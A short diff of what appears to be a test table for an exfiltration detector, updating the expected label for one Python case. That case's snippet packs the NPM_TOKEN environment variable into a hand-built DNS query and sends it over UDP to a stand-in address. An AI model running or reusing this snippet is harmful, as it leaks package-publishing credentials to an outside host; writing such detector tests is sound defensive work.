@@ -129,7 +129,7 @@ const PYTHON: Row[] = [
   ],
   [
     "asks its own name server",
-    [SENT("$NPM_TOKEN to own.example")],
+    [SENT("$NPM_TOKEN to 198.51.100.53:53 (as own.example)")],
     "q=b''.join(bytes([len(p)])+p.encode() for p in [os.environ['NPM_TOKEN'],'own','example'])\nsocket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'+q+b'\\0\\0\\1\\0\\1',('198.51.100.53',53))",
   ],
   [
